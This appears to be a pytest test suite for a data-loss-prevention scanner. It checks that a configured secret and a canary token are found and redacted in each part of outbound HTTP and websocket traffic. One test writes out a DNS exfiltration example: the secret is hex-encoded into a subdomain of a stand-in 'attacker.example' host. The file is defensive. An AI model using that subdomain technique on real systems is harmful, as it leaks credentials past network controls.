"""known_secrets and canary: every rendering, every surface, three passes."""

from __future__ import annotations

import string

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from bb_dlp import (
    PARTIAL_MATCH_MIN_LEN,
    DlpConfig,
    OutboundRequest,
    redact_tokens,
    scan_outbound,
)
from bb_dlp.entropy import shannon_entropy
from bb_dlp.secrets import PARTIAL_MATCH_MIN_ENTROPY, project
from bb_dlp.testing import TRANSFORMS, encodings_of, make_request

SECRET = "Zx9-kQ2pLm7vRt4wYb8nQ3jH"
CANARY = "cnry_7f3a9c2e1b5d4f6a8e0c"
CONFIG = DlpConfig.from_environ({"EGRESS_TOKEN_API": SECRET, "EGRESS_TOKEN_CANARY": CANARY})

# Unicode renderings are found but cannot always be located in the bytes as sent.
_UNREDACTABLE = {"fullwidth"}


_MULTIPART = ("Content-Type", "multipart/form-data; boundary=XyZ")


def _place(where: str, text: str) -> OutboundRequest:
    if where == "query":
        return make_request("/v1/items?q=" + text)
    if where == "path":
        return make_request("/v1/" + text + "/items")
    if where == "header":
        return make_request(headers=[("X-Api-Key", text)])
    if where == "cookie":
        return make_request(headers=[("Cookie", f"a=1; session={text}; b=2")])
    if where == "json":
        return make_request(body=b'{"messages": [{"content": "key: ' + text.encode() + b' ok"}]}')
    if where == "form":
        return make_request(
            headers=[("Content-Type", "application/x-www-form-urlencoded")],
            body=b"a=1&token=" + text.encode() + b"&b=2",
        )
    if where == "multipart-filename":
        body = (
            b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="'
            + text.encode()
            + b'.txt"\r\n\r\nhello\r\n--XyZ--\r\n'
        )
        return make_request(
            headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=body
        )
    if where == "multipart-part-header":
        body = b"--XyZ\r\nX-Note: " + text.encode() + b"\r\n\r\nhello\r\n--XyZ--\r\n"
        return make_request(
            headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=body
        )
    raise AssertionError(where)


PLACES = (
    "query",
    "path",
    "header",
    "cookie",
    "json",
    "form",
    "multipart-filename",
    "multipart-part-header",
)


@pytest.mark.parametrize("transform", sorted(TRANSFORMS))
@pytest.mark.parametrize("where", PLACES)
def test_every_rendering_of_a_secret_is_found_on_every_surface(transform: str, where: str) -> None:
    """Each transform of the recall matrix is caught in each location of a request."""
    request = _place(where, encodings_of(SECRET)[transform])
    result = scan_outbound(request, CONFIG)
    assert any(f.secret_name == "EGRESS_TOKEN_API" for f in result.findings), result


@pytest.mark.parametrize("transform", sorted(set(TRANSFORMS) - _UNREDACTABLE))
@pytest.mark.parametrize("where", PLACES)
def test_redaction_leaves_no_rendering_behind(transform: str, where: str) -> None:
    """After `redact_tokens` a rescan finds nothing, and every finding was redactable."""
    request = _place(where, encodings_of(SECRET)[transform])
    result = scan_outbound(request, CONFIG)
    assert all(f.redactable for f in result.findings)
    assert scan_outbound(redact_tokens(request, result.findings), CONFIG).clean


def test_the_canary_is_named_as_the_canary_at_critical_severity() -> None:
    """A canary hit is its own detector with the highest severity."""
    result = scan_outbound(make_request(body=b"leak " + CANARY.encode()), CONFIG)
    [finding] = result.findings
    assert (finding.detector, finding.severity, finding.secret_name) == (
        "canary",
        "critical",
        "EGRESS_TOKEN_CANARY",
    )


def test_the_preview_never_contains_the_secret() -> None:
    """Previews are safe to log: they name the secret, never show it."""
    for rendering in encodings_of(SECRET).values():
        for f in scan_outbound(_place("json", rendering), CONFIG).findings:
            assert SECRET not in f.preview
            assert SECRET[4:20] not in f.preview


def test_a_host_carrying_a_secret_is_found_and_not_redactable() -> None:
    """DNS exfiltration: a secret in the host name cannot be rewritten away."""
    request = make_request(host=SECRET.encode().hex() + ".attacker.example")
    [finding] = scan_outbound(request, CONFIG).findings
    assert (finding.surface, finding.redactable) == ("host", False)


def test_a_secret_in_a_websocket_message_is_found() -> None:
    """Websocket frames are scanned like bodies."""
    from bb_dlp import WebSocketMessage, scan_websocket_message

    message = WebSocketMessage(
        "ws.example.com", "/socket", b'{"t":"' + SECRET.encode() + b'"}', True
    )
    [finding] = scan_websocket_message(message, CONFIG).findings
    assert finding.surface == "websocket"


_ALPHABET = string.ascii_letters + string.digits + "-_.~+/="


@settings(max_examples=150, deadline=None)
@given(
    secret=st.text(_ALPHABET, min_size=20, max_size=64).filter(
        lambda s: len(set(s)) >= 12 and sum(c.isalnum() for c in s) >= 18
    ),
    transform=st.sampled_from(sorted(TRANSFORMS)),
    where=st.sampled_from(PLACES),
    before=st.text(string.printable.replace("%", "").replace("\\", ""), max_size=200),
    after=st.text(string.printable.replace("%", "").replace("\\", ""), max_size=200),
)
def test_any_secret_any_rendering_any_position_is_found(
    secret: str, transform: str, where: str, before: str, after: str
) -> None:
    """Property: whatever the secret, rendering, location and surrounding text, it is found.

    Fragments are promised only where they hold ``PARTIAL_MATCH_MIN_LEN`` alphanumerics and
    every window clears the entropy gate (by design a
    run such as ``000000000123`` is not a fragment worth blocking on).
    """
    if transform.startswith("fragment"):
        p = project(TRANSFORMS[transform](secret).encode())
        w = PARTIAL_MATCH_MIN_LEN
        assume(len(p) >= w)
        windows = [p[i : i + w] for i in range(len(p) - w + 1)]
        assume(all(shannon_entropy(x) >= PARTIAL_MATCH_MIN_ENTROPY for x in windows))
    config = DlpConfig.from_environ({"EGRESS_TOKEN_X": secret})
    text = (
        before.replace("\r", "").replace("\n", "")
        + TRANSFORMS[transform](secret)
        + after.replace("\r", "").replace("\n", "")
    )
    request = _place(where, text)
    result = scan_outbound(request, config)
    assert any(f.secret_name == "EGRESS_TOKEN_X" for f in result.findings)
    if transform not in _UNREDACTABLE:
        redacted = redact_tokens(request, result.findings)
        again = scan_outbound(redacted, config)
        assert not any(f.secret_name == "EGRESS_TOKEN_X" for f in again.findings)
